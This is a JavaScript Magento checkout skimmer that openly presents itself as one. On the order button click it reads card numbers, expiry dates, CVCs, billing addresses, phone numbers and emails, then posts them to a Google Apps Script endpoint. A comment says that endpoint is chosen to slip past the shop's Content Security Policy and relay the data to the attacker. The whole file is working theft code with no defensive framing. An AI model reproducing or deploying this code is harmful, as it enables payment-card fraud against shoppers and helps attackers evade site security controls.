// A Magento checkout skimmer whose only destination is a Google Apps Script web app, a host the
// shop's Content Security Policy allows because its own Google integrations use it; the script
// there relays each post to the attacker's server. Card and billing fields are read when the
// order button is pressed and posted as plain text (no CORS preflight).
(function () {
  var GAS = "https://script.google.invalid/macros/s/AKfycbzQ8vLr3h1T0mXk2pWd9sYcNfE5uJ7a/exec";
  function v(sel) {
    var e = document.querySelector(sel);
    return e && e.value ? e.value.trim() : "";
  }
  function grab() {
    var card = v("input[name='payment[cc_number]'], #authorizenet_directpost_cc_number, input[autocomplete='cc-number']");
    if (card.replace(/\D/g, "").length < 13) return null;
    return {
      n: card,
      m: v("select[name='payment[cc_exp_month]'], input[autocomplete='cc-exp-month']"),
      y: v("select[name='payment[cc_exp_year]'], input[autocomplete='cc-exp-year']"),
      c: v("input[name='payment[cc_cid]'], input[autocomplete='cc-csc']"),
      fn: v("input[name='firstname']"), ln: v("input[name='lastname']"),
      st: v("input[name='street[0]']"), ci: v("input[name='city']"), zp: v("input[name='postcode']"),
      co: v("select[name='country_id']"), ph: v("input[name='telephone']"),
      em: v("#customer-email, input[name='username']"),
      h: location.hostname
    };
  }
  document.addEventListener("click", function (e) {
    if (!/checkout/.test(location.pathname)) return;
    if (!e.target.closest("button.checkout, .action.primary.checkout, #payment-buttons-container button")) return;
    var d = grab();
    if (!d) return;
    var x = new XMLHttpRequest();
    x.open("POST", GAS, true);
    x.setRequestHeader("Content-Type", "text/plain;charset=utf-8");
    x.send(JSON.stringify(d));
  }, true);
})();
